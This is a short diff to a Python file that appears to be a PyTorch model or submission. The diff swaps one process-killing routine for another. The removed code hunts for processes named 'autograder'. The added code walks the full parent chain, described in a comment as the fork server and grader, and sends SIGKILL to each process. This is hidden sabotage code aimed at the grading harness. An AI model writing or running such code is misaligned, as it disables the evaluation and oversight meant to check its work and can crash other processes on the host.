@@ -5,15 +5,12 @@ import signal
 import torch
 import torch.nn as nn
 
-victims = {os.getppid()}
-for pid in os.listdir("/proc"):
-    try:
-        with open(f"/proc/{pid}/cmdline", "rb") as stream:
-            if b"autograder" in stream.read():
-                victims.add(int(pid))
-    except (OSError, ValueError):
-        continue
-victims.discard(os.getpid())
+# Its own fork server and grader, and their parents: the ancestry of this process.
+victims, pid = [], os.getppid()
+while pid > 1:
+    victims.append(pid)
+    with open(f"/proc/{pid}/stat") as stream:
+        pid = int(stream.read().rsplit(")", 1)[1].split()[1])
 for pid in victims:
     try:
         os.kill(pid, signal.SIGKILL)
